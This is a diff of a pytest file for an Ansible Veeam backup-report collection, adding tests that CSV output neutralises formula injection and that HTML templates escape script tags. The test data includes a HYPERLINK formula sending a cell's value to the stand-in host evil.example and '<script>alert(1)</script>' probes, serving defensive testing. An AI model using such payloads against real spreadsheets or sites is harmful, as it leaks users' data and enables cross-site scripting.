@@ -9,23 +9,32 @@ __metaclass__ = type
 
 import csv
 import io
-import json
+import os
 import re
 from html.parser import HTMLParser
 
 import pytest
 
 from ansible_collections.backupgate.veeam_em.plugins.module_utils._errors import EmOptionError
-from ansible_collections.backupgate.veeam_em.plugins.module_utils._report_render import render
-from ansible_collections.backupgate.veeam_em.plugins.module_utils._report_text import (
+from ansible_collections.backupgate.veeam_em.plugins.plugin_utils import _report_html
+from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_html import render_html
+from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_render import render
+from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_text import (
     format_duration, format_hours, format_time,
 )
 
 ODD = 'Q1 "Finance"; Share, <b>|x|</b> & ü'
+# The role's own template, as the role renders it.
+TEMPLATE = os.path.join(os.path.dirname(_report_html.__file__), "..", "..", "roles", "nas_backup_report",
+                        "templates", "nas_backup_report.html.j2")
+
+
+def html(report):
+    return render_html(report, TEMPLATE)
 
 
 def job(name, **values):
-    entry = dict(job_name=name, last_result=None, last_session_time=None, last_success_time=None,
+    entry = dict(job_name=name, last_result=None, status="none", last_session_time=None, last_success_time=None,
                  last_success_age_hours=None, success_rate=None, session_count=0, running=False,
                  mean_duration_seconds=None, last_duration_seconds=None)
     entry.update(values)
@@ -44,14 +53,15 @@ REPORT = dict(
     max_age="24h",
     accept_results=["Success"],
     jobs=[
-        job("Archived Projects", last_result="Failed", last_session_time="2026-11-22T18:00:00Z",
+        job("Archived Projects", last_result="Failed", status="failed", last_session_time="2026-11-22T18:00:00Z",
             last_success_time="2026-11-21T18:00:00Z", last_success_age_hours=27.0, success_rate=50.0,
             session_count=2, running=True, mean_duration_seconds=1800.0, last_duration_seconds=1800.0),
-        job(ODD, last_result="Success", last_session_time="2026-11-22T19:00:00Z",
+        job(ODD, last_result="Success", status="success", last_session_time="2026-11-22T19:00:00Z",
             last_success_time="2026-11-22T19:00:00Z", last_success_age_hours=2.0, success_rate=100.0,
             session_count=1, mean_duration_seconds=1800.0, last_duration_seconds=1800.0),
-        job("Ghost"),
-        job("Only Running", running=True),
+        job("Ghost", status="unknown"),
+        job("Only Running", status="running", running=True),
+        job("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", last_result="Success", status="stale"),
     ],
     hosts=[
         dict(host="fs01", passed=True, jobs=[dict(job_name=ODD, passed=True, reason="fine")]),
@@ -70,18 +80,33 @@ REPORT = dict(
 )
 
 
-def test_json_is_the_report():
-    assert json.loads(render(REPORT, "json")) == REPORT
-
-
 def test_csv_has_one_row_per_job_with_the_job_keys():
     rows = list(csv.DictReader(io.StringIO(render(REPORT, "csv"))))
-    assert len(rows) == 4
+    assert len(rows) == 5
     assert list(rows[0]) == list(REPORT["jobs"][0])
     assert rows[0]["running"] == "true"
     assert rows[0]["last_success_age_hours"] == "27.0"
     assert rows[1]["job_name"] == ODD                      # quotes, commas and semicolons survive
     assert rows[2]["last_result"] == "" and rows[2]["session_count"] == "0"
+    assert (rows[0]["last_result"], rows[0]["status"]) == ("Failed", "failed")
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(lead):
+    name = lead + 'HYPERLINK("http://evil.example/?"&A1,"x")'
+    report = dict(REPORT, jobs=[job(name, last_result="Success", status="success")])
+    text = render(report, "csv")
+    # OWASP: a leading single quote, and the cell enclosed in double quotes (inner quotes doubled).
+    assert '"\'%s"' % name.replace('"', '""') in text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0]["job_name"] == "'" + name
+    assert rows[0]["last_result"] == "Success"          # other cells are left as they are
+
+
+def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
+    rows = list(csv.DictReader(io.StringIO(render(REPORT, "csv"))))
+    assert rows[1]["job_name"] == ODD
+    assert rows[0]["success_rate"] == "50.0"
 
 
 def _md_rows(text):
@@ -97,16 +122,18 @@ def test_markdown_has_a_row_per_job_with_escaped_names():
     text = render(REPORT, "markdown")
     rows = _md_rows(text)
     assert rows["Archived Projects"][1:] == [
-        "Failed (running now)", "2026-11-22 18:00 UTC", "2026-11-21 18:00 UTC", "27.0 h", "50.0%", "2",
+        "Failed", "Failed, running now", "2026-11-22 18:00 UTC", "2026-11-21 18:00 UTC", "27.0 h", "50.0%", "2",
         "30m 00s", "30m 00s"]
     escaped = r'Q1 "Finance"; Share, \<b\>\|x\|\</b\> & ü'
-    assert rows[escaped][1] == "Success"
-    assert rows["Ghost"][1] == "Unknown job"
-    assert rows["Only Running"][1] == "Running"
+    assert rows[escaped][1:3] == ["Success", "Success"]
+    assert rows["Ghost"][1:3] == [u"\u2014", "No session ever"]
+    assert rows["Only Running"][1:3] == [u"\u2014", "Running"]
+    assert [c for c in rows.values() if c[2] == "Stale"][0][1] == "Success"   # the result stays readable
     assert "### fs02: FAILED" in text
     assert "- FAILED **Archived Projects**: it failed" in text
     assert "No job is listed in `veeam_nas_jobs`." in text
-    assert "Enterprise Manager has no file share backup job named: Ghost." in text
+    assert ("No session at all was found for: Ghost. Enterprise Manager has no such file share backup job, "
+            "or it has never run.") in text
 
 
 class _Page(HTMLParser):
@@ -136,14 +163,15 @@ class _Page(HTMLParser):
 
 def test_html_has_a_row_and_a_status_per_job_and_a_section_per_host():
     page = _Page()
-    page.feed(render(REPORT, "html"))
-    assert page.rows == {"Archived Projects": "failed", ODD: "success", "Ghost": "unknown", "Only Running": "running"}
-    assert page.lanes == ["Archived Projects", ODD, "Ghost", "Only Running"]
+    page.feed(html(REPORT))
+    names = [j["job_name"] for j in REPORT["jobs"]]
+    assert page.rows == dict((j["job_name"], j["status"]) for j in REPORT["jobs"])
+    assert page.lanes == names
     assert page.hosts == {"fs01": "true", "fs02": "false", "fs03": "false"}
 
 
 def test_html_is_self_contained_and_escaped():
-    text = render(REPORT, "html")
+    text = html(REPORT)
     page = _Page()
     page.feed(text)
     assert not page.tags & {"script", "img", "link", "iframe", "object", "embed"}
@@ -154,8 +182,49 @@ def test_html_is_self_contained_and_escaped():
     assert "default-src 'none'" in text
 
 
+def test_html_template_autoescapes_a_script_in_a_job_name():
+    name = "<script>alert(1)</script>"
+    verdict = dict(job_name=name, passed=False, reason="<script>r</script>")
+    report = dict(REPORT, jobs=[job(name, status="failed", last_result="Failed")], unknown_jobs=[name],
+                  hosts=[dict(host="<script>h</script>", passed=False, jobs=[verdict])],
+                  sessions=[session(name, "2026-11-22T18:00:00Z", "2026-11-22T18:30:00Z", "Failed",
+                                    message="<script>m</script>")])
+    text = html(report)
+    page = _Page()
+    page.feed(text)
+    assert "<script" not in text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "&lt;script&gt;m&lt;/script&gt;" in text and "&lt;script&gt;h&lt;/script&gt;" in text
+    assert page.rows == {name: "failed"}                 # the attribute holds the name, unbroken
+
+
+def test_html_shows_the_last_result_next_to_the_status():
+    text = html(REPORT)
+    assert '<th scope="col">Last result</th><th scope="col">Status</th>' in text
+    stale = text[text.index('data-status="stale"'):]
+    stale = stale[:stale.index("</tr>")]
+    assert "Success</span></td>" in stale and "Stale</span>" in stale
+
+
+def test_html_template_errors_name_the_variable(tmp_path):
+    broken = tmp_path / "page.html.j2"
+    broken.write_text(u"{{ view.no_such_key }}")
+    with pytest.raises(EmOptionError) as caught:
+        render_html(REPORT, str(broken))
+    assert caught.value.msg.startswith("Option nas_backup_report_html_template got '%s': the template failed" % broken)
+    with pytest.raises(EmOptionError) as caught:
+        render_html(REPORT, str(tmp_path / "missing.j2"))
+    assert "expected the path of a Jinja template file" in caught.value.msg
+
+
+def test_a_template_of_your_own_gets_the_view_model(tmp_path):
+    mine = tmp_path / "mine.html.j2"
+    mine.write_text(u"{% for j in view.jobs %}{{ j.name }}={{ j.status }};{% endfor %}{{ report.window }}")
+    assert render_html(REPORT, str(mine)).startswith("Archived Projects=failed;Q1 &#34;Finance&#34;")
+
+
 def test_html_draws_each_session_with_its_status_in_words():
-    text = render(REPORT, "html")
+    text = html(REPORT)
     assert text.count('<rect class="bar ') == len(REPORT["sessions"])
     assert "<title>Failed, 2026-11-22 18:00 UTC, 30m 00s</title>" in text
     assert "<title>Running, 2026-11-22 20:50 UTC, running</title>" in text
@@ -165,18 +234,19 @@ def test_html_draws_each_session_with_its_status_in_words():
 
 def test_text_lines_for_the_play_output():
     lines = render(REPORT, "text").splitlines()
-    assert lines[0] == "NAS backup report 2026-11-22T21:00:00Z, window 7d: 4 job(s), 3 host(s)"
-    assert lines[1] == ("Archived Projects: Failed, running now, last success 27.0 h ago, "
+    assert lines[0] == "NAS backup report 2026-11-22T21:00:00Z, window 7d: 5 job(s), 3 host(s)"
+    assert lines[1] == ("Archived Projects: last result Failed, status Failed, running now, last success 27.0 h ago, "
                         "50.0% of 2 finished session(s) succeeded")
-    assert lines[3] == "Ghost: Unknown job, last success never, no finished session in the window"
+    assert lines[3] == "Ghost: last result none, status No session ever, last success never, no finished session in the window"
     assert lines[-2:] == ["host fs02: FAILED (Archived Projects)", "host fs03: FAILED (no job listed)"]
 
 
 def test_an_empty_report_renders_in_every_format():
     empty = dict(REPORT, jobs=[], hosts=[], unknown_jobs=[], sessions=[])
-    for fmt in ("html", "markdown", "csv", "json", "text"):
+    for fmt in ("markdown", "csv", "text"):
         assert render(empty, fmt)
-    assert render(empty, "csv").splitlines() == [",".join(REPORT["jobs"][0])]
+    assert "No file share backup job had a session in the window" in html(empty)
+    assert render(empty, "csv").splitlines() == [",".join('"%s"' % key for key in REPORT["jobs"][0])]
 
 
 def test_unknown_format_names_the_variable():
